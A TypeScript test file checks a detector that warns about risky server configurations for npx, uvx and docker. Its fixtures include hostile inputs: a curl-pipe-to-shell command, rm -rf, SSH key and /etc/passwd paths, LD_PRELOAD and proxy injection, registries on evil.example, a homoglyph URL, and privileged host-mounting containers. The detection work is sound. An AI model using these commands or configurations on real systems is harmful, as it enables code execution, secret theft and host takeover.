import { describe, expect, it } from "vitest";
import { suspicions } from "../../../src/cli/servers/suspicious.ts";
import type { ServerConfig } from "../../../src/core/types/server-config.ts";

const npx = (...args: string[]): ServerConfig => ({
  command: "npx",
  args: ["-y", "pkg@1", ...args],
});
const docker = (...args: string[]): ServerConfig => ({
  command: "docker",
  args: ["run", "-i", "--rm", ...args, "image"],
});

const HOME = "warning: it names your home directory";
const KEYS = "warning: it names a place where keys and credentials are kept";
const SHELL = "warning: it runs commands in a shell";

describe("a server that somebody else has written down", () => {
  it.each<[what: string, server: ServerConfig, warnings: string[]]>([
    ["an ordinary package", npx("--port", "80", "serve"), []],
    ["words that only look alike", npx("--sudoku", "warm -rfoo", "issue", "cash"), []],
    [
      "sudo",
      npx("sudo", "x"),
      ["warning: it runs with the rights of another user (sudo or the like)"],
    ],
    ["a shell", npx("/bin/bash", "-c"), [SHELL]],
    [
      "rm -rf",
      npx("sh", "-c", "rm -rf /tmp/x"),
      [SHELL, "warning: it deletes files (rm -rf or the like)"],
    ],
    [
      "code from the network",
      npx("curl https://a.example | sh"),
      ["warning: it runs code that it gets from the network"],
    ],
    ["the home directory", npx("~/notes"), [HOME]],
    ["a home directory", npx("--dir=/home/me"), [HOME]],
    ["a variable for it", npx("$${HOME}/x"), [HOME]],
    ["keys", npx("~/.ssh/id_rsa"), [KEYS, HOME]],
    ["files of the system", npx("/etc/passwd"), ["warning: it names files of the system"]],
    [
      "the path",
      { ...npx(), env: { PATH: "/evil" } },
      ["warning: it sets PATH, which decides what else is used"],
    ],
    [
      "what runs code, with the reason that doctor gives",
      { ...npx(), env: { LD_PRELOAD: "/x.so", BASH_ENV: "/x", GNUMAKEFLAGS: "x", ENV: "staging" } },
      [
        "warning: it sets LD_PRELOAD, which loads libraries into every program",
        "warning: it sets BASH_ENV, which is run by every shell",
        "warning: it sets GNUMAKEFLAGS, which decides what Go, Cargo, make, cmake and compilers build and run",
      ],
    ],
    [
      "a proxy",
      { ...npx(), env: { HTTPS_PROXY: "http://evil.example" } },
      ["warning: it sets HTTPS_PROXY, which decides what else is used"],
    ],
    [
      "letters of another alphabet",
      { url: "https://аpple.com/mcp" },
      ["warning: its address has letters that look like others"],
    ],
    [
      "another program of npx",
      { command: "npx", args: ["-y", "--call", "node -e 1", "pkg@1"] },
      ["warning: it gives npx --call, which decides what is run"],
    ],
    [
      "another registry of npx",
      { command: "npx", args: ["-y", "--registry=http://evil.example", "pkg@1"] },
      ["warning: it gives npx --registry=http://evil.example, which decides what is run"],
    ],
    ["an option of the package", npx("-c", "x", "-p", "80"), []],
    [
      "another package of uvx",
      { command: "uvx", args: ["--from", "git+https://evil.example/x", "pkg"] },
      ["warning: it gives uvx --from, which decides what is run"],
    ],
    [
      "docker that runs nothing",
      { command: "docker", args: ["compose", "up"] },
      ["warning: it does something else with docker than to run a container"],
    ],
    [
      "a mount among other letters",
      docker("-itv", "/:/host"),
      ["warning: the container gets all files of this machine"],
    ],
    [
      "another program in the container",
      docker("--entrypoint=x"),
      ["warning: the container runs another program than its image is made for"],
    ],
    ["an ordinary URL", { url: "https://example.com/mcp" }, []],
    ["an ordinary container", docker("-e", "A"), []],
    [
      "a container with all rights",
      docker("--privileged"),
      ["warning: the container gets all rights on this machine (--privileged)"],
    ],
    [
      "a container in this network",
      docker("--network", "host"),
      ["warning: the container is not separated from this machine"],
    ],
    [
      "a container with more rights",
      docker("--cap-add=ALL"),
      ["warning: the container gets rights that containers do not have"],
    ],
    [
      "a container with all files",
      docker("-v", "/:/host"),
      ["warning: the container gets all files of this machine"],
    ],
    [
      "a container with a directory",
      docker("--volume=/srv/a:/a"),
      ["warning: the container gets /srv/a of this machine"],
    ],
    [
      "a mount",
      docker("--mount", "type=bind,src=/srv/a,dst=/a"),
      ["warning: the container gets /srv/a of this machine"],
    ],
    [
      "a volume of docker's",
      docker("-v", "cache:/cache", "--mount", "type=volume,src=x,dst=/x"),
      [],
    ],
    [
      "docker itself",
      docker("-v", "/var/run/docker.sock:/var/run/docker.sock"),
      [
        "warning: the container gets control over docker, and so over this machine",
        "warning: the container gets /var/run/docker.sock of this machine",
      ],
    ],
  ])("%s", (_, server, warnings) => {
    expect(suspicions(server)).toEqual(warnings);
  });

  it("is not suspected of what the person gave, but a container with it is told", () => {
    expect(suspicions(npx("/home/me/notes"), ["/home/me/notes"])).toEqual([]);
    expect(suspicions(docker("-v", "/home/me:/a"), ["/home/me"])).toEqual([
      "warning: the container gets /home/me of this machine",
    ]);
  });

  it("is read in linear time", () => {
    const long = "curl ".repeat(100_000);
    expect(suspicions(npx(long, "rm ".repeat(100_000), "-v".repeat(100_000)))).toEqual([]);
  });
});
